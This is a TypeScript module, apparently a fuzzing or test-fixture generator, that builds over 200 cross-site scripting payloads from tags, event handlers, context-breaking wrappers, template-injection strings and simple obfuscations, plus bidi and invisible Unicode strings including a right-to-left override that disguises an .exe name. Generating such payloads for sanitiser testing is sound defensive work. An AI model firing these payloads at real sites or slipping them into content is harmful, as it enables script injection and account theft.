/** Scripts as they are smuggled into text: tags, handlers, addresses, templates, and ways to hide them. */
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'video src=x',
  'details open',
  'input autofocus',
  'marquee',
  'math',
  'object data=x',
];
const HANDLERS = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onstart', 'onpointerenter', 'onanimationend'];
const FRAMES: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `</title></style></textarea><script>${script}</script>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `\${${script}}`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `'-${script}-'`,
  (script) => `<!--><img src=x onerror=${script}>-->`,
  (script) => `<svg><style><img src=x onerror=${script}></style></svg>`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `<?lit$0$?><img src=x onerror=${script}>`,
  (script) => `<base href="javascript:${script}//">`,
];
const HIDDEN: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => payload.toUpperCase(),
  (payload) => payload.replaceAll('<', '&lt;'),
  (payload) => payload.replaceAll('<', '\u0000<'),
];

/** Bidi controls, invisible signs and lone surrogates: what reorders, hides or breaks the text around it. */
export const BIDI: readonly string[] = [
  '\u202egnp.exe',
  '\u2066links\u2069',
  '\u2067rechts',
  '\u200f\u200e\u061c',
  '\u202a\u202b\u202c\u202d',
  'a\u200bb\ufeffc',
  '\ud800',
  '\udc00x',
  'e\u0301\u0327'.repeat(20),
];

/** More than 200 payloads. Each one calls `script` when something runs it. */
export const payloads = (script: string): readonly string[] => {
  const handlers = TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=${script}>`));
  const framed = FRAMES.map((frame) => frame(script));
  return [...handlers, ...framed].flatMap((payload) => HIDDEN.map((hide) => hide(payload)));
};
